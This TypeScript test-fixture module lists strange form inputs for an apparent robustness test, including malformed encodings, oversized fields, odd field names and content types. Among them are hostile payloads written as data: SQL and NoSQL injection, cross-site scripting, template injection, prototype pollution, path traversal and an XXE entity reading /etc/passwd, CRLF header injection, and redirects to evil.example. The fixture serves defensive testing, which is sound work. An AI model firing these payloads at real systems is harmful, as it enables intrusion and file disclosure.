/** Strange things to post, for `odd-inputs.test.ts`. Every value carries the mark, so that a log that repeats one is found. */
export const MARK = "zqxmark";

/** Percent-encoded values, as bytes that no browser would send are among them. */
export const ODD_VALUES: string[] = [
  "",
  "%20%20%0A%09",
  `${MARK}%00${MARK}`,
  `${MARK}%01%02%03%07%08%0B%0C%0E%1B%1F%7F`,
  `%ED%A0%80${MARK}`,
  `%ED%BF%BF${MARK}%ED%A0%80`,
  `%FF%FE${MARK}`,
  `%C0%80${MARK}`,
  `%F8%88%80%80%80${MARK}`,
  `%EF%BF%BE%EF%BF%BF${MARK}`,
  `%E2%80%AE${MARK}%E2%80%AE%E2%81%A6`,
  `%EF%BB%BF${MARK}`,
  encode("أنا".repeat(200) + MARK),
  encode("👩‍👩‍👧‍👦".repeat(500) + MARK),
  encode(`Z${"\u0301".repeat(3000)}${MARK}`),
  encode("\u200b\u200d\u2060\u00ad" + MARK),
  encode("𝕳𝖊𝖑𝖕 " + MARK),
  encode(`'; DROP TABLE inputs; -- ${MARK}`),
  encode(`" OR 1=1 /* ${MARK}`),
  encode(`$1::uuid $$ \\x00 E'\\'' ${MARK}`),
  encode(`<script>alert("${MARK}")</script>`),
  encode(`"><img src=x onerror=alert(1)>${MARK}`),
  encode(`</textarea></form><form action=//evil.example>${MARK}`),
  encode(`{{constructor.constructor("return process")()}} \${7*7} <%= 7*7 %> #{7*7} ${MARK}`),
  encode(`$t(errors:notFound) {{count}} ${MARK}`),
  encode(`__proto__ ${MARK}`),
  encode(`{"$gt": "", "a": [${MARK}]}`),
  encode(`%s%n%d ${MARK}`),
  encode(`../../../../etc/passwd ${MARK}`),
  encode(`\r\nSet-Cookie: odd=${MARK}\r\n\r\n<h1>`),
  encode(`javascript:alert(1)//${MARK}`),
  encode(`//evil.example/${MARK}`),
  encode(`https://evil.example/${MARK}`),
  "%",
  "%zz%",
  `%25%30%30${MARK}`,
  "1e309",
  "-0",
  "99999999999999999999999999",
  "NaN",
  encode("0000-0000-0000"),
  encode(`${MARK}@`.repeat(100) + "example.org"),
  encode(MARK + "a".repeat(5_001)),
  encode(MARK.repeat(3000)),
  MARK + "+".repeat(20_000),
];

/** A field of nearly a megabyte, and one above it. */
export const LARGE_VALUES: string[] = [MARK + "a".repeat(990_000), MARK + "a".repeat(1_100_000), MARK + "%D8%A3".repeat(160_000)];

/** Names of fields that are none of ours. */
export const ODD_NAMES: string[] = [
  "a.".repeat(1000) + "a",
  "a" + "[a]".repeat(1000),
  "a" + "[0]".repeat(1000),
  "rows[4294967294].q",
  "rows[100000].q",
  "rows[-1]",
  "words[0]",
  "words.a",
  "words[]",
  "__proto__",
  "__proto__.polluted",
  "constructor.prototype.polluted",
  "toString",
  "hasOwnProperty",
  "__intent__",
  "",
  ".",
  "[",
  "]",
  "a[",
  "\u0000",
  "x".repeat(10_000),
  "words\u0000",
  "ключ",
];

/** Types that no form of ours sends, with a body of theirs. */
export const ODD_TYPES: { type: string | null; body: string }[] = [
  { type: "application/json", body: `{"words": "${MARK}"}` },
  { type: "text/plain", body: `words=${MARK}` },
  { type: "multipart/form-data; boundary=x", body: `--x\r\nContent-Disposition: form-data; name="words"\r\n\r\n${MARK}\r\n--x--\r\n` },
  { type: "multipart/form-data", body: MARK },
  { type: "multipart/form-data; boundary=" + "b".repeat(5000), body: MARK },
  { type: "application/xml", body: `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;${MARK}</a>` },
  { type: "application/x-www-form-urlencoded; charset=utf-16", body: `w\u0000o\u0000=${MARK}` },
  { type: "application/x-www-form-urlencodedx", body: `words=${MARK}` },
  { type: "APPLICATION/X-WWW-FORM-URLENCODED", body: `words=${MARK}` },
  { type: "", body: `words=${MARK}` },
  { type: null, body: `words=${MARK}` },
];

/** A sequence of numbers from 0 to 1 that is the same in every run (mulberry32). */
export function randomSequence(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4294967296;
  };
}

function encode(value: string): string {
  return encodeURIComponent(value);
}
